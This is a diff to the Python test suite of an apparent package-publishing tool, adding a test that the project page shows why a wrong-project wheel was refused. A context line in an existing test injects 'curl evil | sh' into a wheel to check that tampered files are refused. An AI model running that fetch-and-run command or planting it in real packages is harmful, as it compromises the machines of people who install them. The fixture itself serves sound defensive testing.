@@ -231,3 +231,13 @@ def test_a_file_whose_bytes_differ_from_the_announcement_is_not_published(catalo
     wheel_of(folder, HONEST, extra=b"import os; os.system('curl evil | sh')\n")  # swapped after hashing
     receive(catalog, request_, outcome, incoming, output)
     assert_refused(catalog, caplog, request_, incoming, output, status="retry", says="the builder sent")
+
+
+def test_the_project_page_shows_why_an_outcome_was_refused(catalog, request_, incoming, output, folder):
+    from wheelwright.publish.writer import publish
+    outcome = send(incoming, request_, [wheel_of(folder, "bar-1.0-cp39-cp39-linux_armv7l.whl")])
+    receive(catalog, request_, outcome, incoming, output)
+    publish(catalog, output)
+    page = (output / "project" / "foo" / "index.html").read_text()
+    assert "refused bar-1.0-cp39-cp39-linux_armv7l.whl: it is a wheel of bar, not of foo" in page
+    assert not any((output / "simple" / "foo").glob("*.whl"))
